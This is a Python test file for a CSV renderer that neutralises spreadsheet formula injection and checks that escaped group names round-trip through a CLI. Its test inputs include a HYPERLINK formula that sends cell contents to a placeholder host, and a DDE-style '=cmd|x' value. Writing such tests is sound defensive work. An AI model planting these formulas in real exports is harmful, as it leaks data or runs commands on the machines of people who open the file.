"""A spreadsheet that opens our CSV computes nothing; what was printed can be put back."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quotaplane.cli.main import main
from quotaplane.text_table import escape_formula, render, unescape_formula


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(first: str) -> None:
    text = f'{first}HYPERLINK("http://x/"&A1)'
    assert cells(render((text, "n"), [(text, 1)], "csv")) == [[f"'{text}", "n"], [f"'{text}", "1"]]
    assert json.loads(render(("g",), [(text,)], "json")) == [{"g": text}]
    assert text.strip() in render(("g",), [(text,)], "table")


def test_numbers_stay_numbers() -> None:
    row = (-1, -1.5, Decimal("-2"), float("-inf"), None, False, "1-2", b"\xfb\xf0")
    found = cells(render(tuple("abcdefgh"), [row], "csv"))[1]
    assert found == ["-1", "-1.5", "-2", "-inf", "", "False", "1-2", "'+/A="]


@given(st.text(alphabet="'=+-@\t\rab", max_size=6) | st.text(max_size=6))
def test_every_text_comes_back(text: str) -> None:
    cell = escape_formula(text)
    assert unescape_formula(cell) == text
    assert cell[:1] not in tuple("=+-@\t\r")


def test_groups_with_such_names_are_printed_and_put_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["=cmd|x", "@sum", "-1", "'=quoted", "acme"]
    places = [("--history", str(tmp_path / name)) for name in ("one", "other")]
    file = tmp_path / "groups.json"
    file.write_text(json.dumps([{"group": name, "publish_bytes_per_s": 5} for name in names]))
    assert main(["groups", "put", "--file", str(file), "--init", *places[0]]) == 0
    capsys.readouterr()
    assert main(["groups", "list", "--csv", *places[0]]) == 0
    printed = capsys.readouterr().out
    (tmp_path / "groups.csv").write_text(printed, "utf-8")
    found = [line[0] for line in cells(printed)[1:]]
    assert sorted(found) == sorted(["'=cmd|x", "'@sum", "'-1", "''=quoted", "acme"])
    put = ["groups", "put", "--file", str(tmp_path / "groups.csv"), "--init", *places[1]]
    assert main(put) == 0
    capsys.readouterr()
    assert main(["groups", "list", "--json", *places[1]]) == 0
    groups = json.loads(capsys.readouterr().out)
    assert sorted(row["group"] for row in groups) == sorted(names)
